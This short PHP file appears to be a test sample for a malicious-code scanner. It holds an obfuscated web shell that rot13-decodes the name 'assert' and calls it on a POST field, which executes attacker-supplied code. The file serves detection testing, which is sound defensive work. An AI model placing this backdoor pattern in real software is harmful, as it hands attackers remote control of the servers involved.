<?php
// spamgear test sample: a callee name decoded by a function defined further
// down (str_rot13 of a short constant), called on request data.
$f = n('nffreg');
$f($_POST['x']);
function n($s)
{
    return str_rot13($s);
}
